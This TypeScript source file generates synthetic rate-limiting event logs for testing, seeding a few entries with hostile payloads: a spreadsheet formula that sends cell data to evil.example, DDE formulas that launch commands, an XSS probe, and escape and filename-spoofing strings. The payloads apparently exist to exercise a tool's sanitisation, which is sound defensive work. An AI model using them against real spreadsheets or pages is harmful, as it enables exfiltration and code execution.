import { COUNTRIES, HOSTS } from './catalog.ts';
import { below, chance, dashed, hash, hexadecimal, pick } from './random.ts';

const HOUR_MS = 3_600_000;

/**
 * An entry of the event log, with the interface's field names. (Interface, "Event log entry".) A bigint is a number with
 * more digits than a double has.
 */
export type EventEntry = Record<string, string | number | bigint | object | null>;
/** An entry with its time in epoch microseconds. */
export type TimedEvent = { atMicros: number; entry: EventEntry };
/** What decides about an entry that is made: the same numbers make the same entry. */
export type Dice = readonly [seed: number, group: number, index: number];

const PATHS = [
  '/login',
  '/search?q=shoes',
  '/api/v2/items',
  '/cart',
  '/account/reset',
  '/wp-login.php',
  '/.env',
];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15',
  'python-requests/2.32.5',
  'curl/8.16.0',
  'Go-http-client/2.0',
];
/** What an attacker might put into the log by way of a request. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\u001b[31mred\u001b[0m',
  'safe\u202egpj.exe',
  '<img src=x onerror=alert(1)>',
];
const ACTIONS = ['CUSTOM-RESPONSE', 'custom-response', 'DROP-REQUEST', 'REDIRECT-302', 'NOP'];
const STATUSES: Record<string, string> = {
  'CUSTOM-RESPONSE': 'HTTP_STATUS_SERVICE_UNAVAILABLE',
  'custom-response': 'HTTP_STATUS_SERVICE_NOT_AVAILABLE',
  'DROP-REQUEST': 'HTTP_STATUS_FORBIDDEN',
  'REDIRECT-302': 'HTTP_STATUS_FOUND',
  NOP: 'HTTP_STATUS_OK',
};

type Attack = {
  tuple: string;
  startMs: number;
  seconds: number;
  host: string;
  country: string;
  net: number;
};

/** The attack in progress in this hour, if any. There is one every four days, and it lasts for two to five hours. */
function attackIn(seed: number, hour: number): Attack | null {
  const block = Math.floor(hour / 96);
  const start = block * 96 + 10 + below(70, seed, block, 11);
  const hours = 2 + below(4, seed, block, 12);
  if (hour < start || hour >= start + hours) return null;
  return {
    tuple: dashed(seed, block, 13),
    startMs: start * HOUR_MS + below(1_800_000, seed, block, 14),
    seconds: pick([60, 300, 600, 1_800], seed, block, 15),
    host: pick(HOSTS, seed, block, 16).name,
    country: pick(COUNTRIES, seed, block, 17),
    net: hash(seed, block, 18) & 0xffff,
  };
}

/** On about one day in eight nothing happens, apart from attacks. */
const quiet = (seed: number, hour: number) => chance(seed, Math.floor(hour / 24), 21) < 0.12;

function urlOf(dice: Dice, host: string): string {
  const kind = chance(...dice, 31);
  const path = pick(PATHS, ...dice, 32);
  if (kind < 0.01) return `https://${host}/?q=${pick(HOSTILE, ...dice, 33)}`;
  if (kind < 0.013) return `https://${host}/long/${'a'.repeat(4_000 + below(60_000, ...dice, 34))}`;
  return `https://${host}${path}${path.includes('?') ? '&' : '?'}id=${hexadecimal(8, ...dice, 35)}`;
}

function refererOf(dice: Dice, host: string): string {
  const kind = chance(...dice, 53);
  if (kind < 0.01) return pick(HOSTILE, ...dice, 56);
  return kind < 0.5 ? `https://${host}/` : '';
}

/** `YYYY-MM-DDThh:mm:ss:ffffffZ`. */
function timestampOf(atMicros: number): string {
  const iso = new Date(Math.floor(atMicros / 1_000)).toISOString().slice(0, 19);
  return `${iso}:${String(atMicros % 1_000_000).padStart(6, '0')}Z`;
}

/** An entry of ordinary traffic, or of an attack. */
export function makeEvent(dice: Dice, atMicros: number, attack: Attack | null): TimedEvent {
  const ms = Math.floor(atMicros / 1_000);
  const country = attack?.country ?? pick(COUNTRIES, ...dice, 43);
  const host = attack?.host ?? pick(HOSTS, ...dice, 44).name;
  const net = attack?.net ?? hash(...dice, 45) & 0xffff;
  const action = attack ? 'CUSTOM-RESPONSE' : pick(ACTIONS, ...dice, 46);
  const agent = chance(...dice, 47) < 0.01 ? pick(HOSTILE, ...dice, 48) : pick(AGENTS, ...dice, 49);
  const startMs = attack && attack.startMs <= ms ? attack.startMs : ms - below(120_000, ...dice, 50);
  return {
    atMicros,
    entry: {
      id: hexadecimal(24, ...dice, 51),
      Status: STATUSES[action] ?? 'HTTP_STATUS_OK',
      'Epoch Time': atMicros / 1_000_000,
      Timestamp: timestampOf(atMicros),
      'Rate Limiting Enforcement Type': action,
      'Client IP': `10.${net >> 8}.${net & 255}.${1 + below(attack ? 40 : 254, ...dice, 52)}`,
      URL: urlOf(dice, host),
      Host: host,
      Referer: refererOf(dice, host),
      'User Agent': agent,
      'Country Code': country,
      'Request Method': pick(['HTTP_METHOD_GET', 'HTTP_METHOD_GET', 'HTTP_METHOD_POST'], ...dice, 54),
      'Rate Limiting Enforcement Rule ID': '',
      '@fields.COMMON_HEADER': {},
      'Rate Limiting Enforcement Tuple ID': attack?.tuple ?? dashed(...dice, 55),
      'Rate Limiting Enforcement Start Epoch': startMs,
      'Rate Limiting Enforcement Percentage': attack ? 87.5 : 50.0,
      'Rate Limiting Enforcement Duration': attack?.seconds ?? 60,
    },
  };
}

/** The names of an entry's fields. */
export const EVENT_FIELDS: readonly string[] = Object.keys(makeEvent([1, 0, 0], 0, null).entry);

/** The entries of one hour (counted from the epoch), newest first. They depend only on the seed and the hour. */
export function eventsOfHour(seed: number, hour: number): TimedEvent[] {
  const attack = attackIn(seed, hour);
  const ordinary = quiet(seed, hour) ? 0 : 1 + below(9, seed, hour, 61);
  const count = ordinary + (attack ? 500 + below(1_000, seed, hour, 62) : 0);
  const events = Array.from({ length: count }, (_, index) => {
    const ms = hour * HOUR_MS + below(HOUR_MS, seed, hour, index, 41);
    const atMicros = ms * 1_000 + below(1_000, seed, hour, index, 42);
    return makeEvent([seed, hour, index], atMicros, index < ordinary ? null : attack);
  });
  return events.sort((a, b) => b.atMicros - a.atMicros);
}
